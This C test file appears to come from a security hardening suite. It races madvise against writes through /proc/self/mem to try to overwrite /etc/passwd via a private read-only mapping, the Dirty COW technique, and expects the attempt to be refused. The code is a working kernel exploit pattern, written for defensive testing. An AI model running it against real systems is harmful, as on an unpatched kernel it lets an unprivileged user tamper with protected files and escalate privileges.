/* attack: races madvise against writes to a private mapping of a read-only file through /proc/self/mem
 * proof: the file stays as it was */
#include "../attack.h"

static void *mapping;
static volatile bool over;

static void *discard(void *unused) {
  (void)unused;
  while (!over)
    madvise(mapping, 4096, MADV_DONTNEED);
  return NULL;
}

int main(void) {
  pthread_t thread;
  char before[16] = "", after[16] = "";
  int file = open("/etc/passwd", O_RDONLY);
  pread(file, before, sizeof before, 0);
  mapping = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  int memory = open("/proc/self/mem", O_RDWR);
  pthread_create(&thread, NULL, discard, NULL);
  for (double end = now() + 0.4; now() < end;)
    pwrite(memory, "OWNED", 5, (off_t)(uintptr_t)mapping);
  over = true;
  pthread_join(thread, NULL);
  pread(file, after, sizeof after, 0);
  if (memcmp(before, after, sizeof before) != 0)
    achieved("another content of a read-only file");
  else
    refused("to change a read-only file");
}
